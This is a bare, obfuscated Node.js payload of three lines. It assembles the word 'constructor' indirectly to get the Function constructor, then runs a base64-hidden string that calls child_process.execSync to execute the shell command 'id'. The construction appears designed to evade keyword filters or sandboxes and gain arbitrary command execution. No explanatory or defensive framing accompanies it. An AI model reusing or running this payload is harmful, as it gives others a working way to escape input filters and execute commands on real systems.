const key = { [Symbol.toPrimitive]: () => ['con', 'struc', 'tor'].join('') };
const make = (() => 0)[key];
make(Buffer.from('cHJvY2Vzcy5nZXRCdWlsdGluTW9kdWxlKCdjaGlsZF9wcm9jZXNzJykuZXhlY1N5bmMoJ2lkJyx7c3RkaW86J2luaGVyaXQnfSk=', 'base64').toString())();
